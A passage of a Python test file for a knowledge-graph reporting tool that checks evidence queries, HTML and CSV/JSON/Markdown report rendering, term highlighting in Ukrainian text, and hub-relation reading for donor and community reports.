        {"document": "d.txt", "sentence": "Bare.", "start": None, "end": None},
        {"document": "d.txt", "sentence": "Full.", "start": 4, "end": 9, "status": "signed"},
        {"document": "d.txt", "sentence": "One.", "start": 20, "end": 24},
        {"document": "d.txt", "sentence": "Two.", "start": 20, "end": 24},
    ]
    for many in ([a], [b], [a, b]):
        rows = ask(store, "entity_evidence", {"e": [URIRef(x.value) for x in many]}).rows
        assert len(rows) == 4, rows  # full, bare, twice x 2 sentences (DISTINCT: asking both ends gives them once)
        assert evidence_by_link(rows, [edge]) == {edge: expected}


def test_html_quotes_the_first_sources_of_a_link_and_counts_the_rest():
    from graphtool.report import SOURCES_SHOWN, render_html

    sources = [Source(f"doc{i:02}.txt", f"USAID фінансує проєкт {i}.", i, i + 9) for i in range(SOURCES_SHOWN + 7)]
    link = Link("funds", "USAID", "Donor", "https://w3id.org/graphtool/id/donor/usaid", sources=sources)
    report = Report(
        "donor", "Донор / Donor: USAID", "USAID", "Donor", link.other_iri, groups={"Фінансує / Funds": [link]}
    )
    page = render_html(report)
    assert page.count('<div class="src">') == SOURCES_SHOWN
    assert f"doc{SOURCES_SHOWN - 1:02}.txt" in page and f"doc{SOURCES_SHOWN:02}.txt" not in page
    assert "ще джерел: 7" in page and "7 more sources" in page
    assert f"graphtool report donor {link.other_iri} --format csv" in page
    assert render_html(report, sources_shown=None).count('<div class="src">') == SOURCES_SHOWN + 7
    # the machine-readable forms and Markdown keep every source
    assert len(report_rows(report)) == SOURCES_SHOWN + 7
    assert render_report(report, "csv").count(".txt,") == SOURCES_SHOWN + 7
    assert len(json.loads(render_report(report, "json"))["groups"]["funds"]["links"][0]["sources"]) == SOURCES_SHOWN + 7
    assert render_report(report, "md").count(".txt**") == SOURCES_SHOWN + 7
    few = Report(
        "donor", "t", "USAID", "Donor", "", groups={"g": [Link("funds", "x", "Donor", "", sources=sources[:2])]}
    )
    assert "more sources" not in render_html(few)


def test_highlight_marks_stems_and_whole_acronyms():
    from graphtool.report import _highlight

    marked = _highlight("ЄС і ЄСП допомогли Житомиру та GIZ", ["Європейський Союз (ЄС)", "Житомир", "GIZ"])
    assert "<mark>Житомиру</mark>" in marked and "<mark>GIZ</mark>" in marked
    assert "ЄСП" in marked and "<mark>ЄСП</mark>" not in marked  # an acronym marks the same word only
    assert _highlight("<b>Житомир</b>", ["Житомир"]) == "&lt;b&gt;<mark>Житомир</mark>&lt;/b&gt;"


def test_a_hub_is_read_for_the_relations_shown_only():
    from graphtool.report_graph import by_relations

    hub, item, donor = "hub", "item", "donor"
    parts = [(f"p{i}", hub, "partOf") for i in range(60)]
    links = {hub: ([], [*parts, (donor, hub, "funds")]), item: ([(item, hub, "locatedIn")], [])}
    # the item covers its own link (read whole: it has few); the hub its funds link, read for its funds only
    whole, hubs = by_relations([(donor, hub, "funds"), (item, hub, "locatedIn")], [hub, item], links)
    assert whole == [item] and hubs == {hub: ("funds",)}
    whole, hubs = by_relations([(donor, hub, "funds"), (item, hub, "locatedIn")], [hub], links)
    assert whole == [] and hubs == {hub: ("funds", "locatedIn")}
    whole, hubs = by_relations([*parts, (donor, hub, "funds")], [hub], links)  # every link of it: read whole
    assert whole == [hub] and hubs == {}
    assert by_relations([("x", "y", "funds")], ["x"], {}) == (["x"], {})  # links not read: whole


@pytest.mark.parametrize(("kind", "name"), [("community", "Житомир"), ("donor", "GIZ"), ("program", "DOBRE"),
                                            ("partnerships", None), ("3w", None)])  # fmt: skip
def test_a_report_reads_the_same_evidence_of_a_hub_by_relation(store, kind, name, monkeypatch):
    """Read by the relations shown (every entity a hub here), a report is the report read whole."""
    from graphtool import report_graph

    expected = build_report(store, kind, name)
    monkeypatch.setattr(report_graph, "HUB_LINKS", -1_000)
    texts = []

    class Texts:
        def select(self, query, bindings=None):
            texts.append(query)
            return store.select(query, bindings)

    report = build_report(Texts(), kind, name)
    assert report.to_dict() == expected.to_dict()
    assert any(text.startswith("#+ summary: The evidence of every link") and "VALUES (?p)" in text for text in texts)
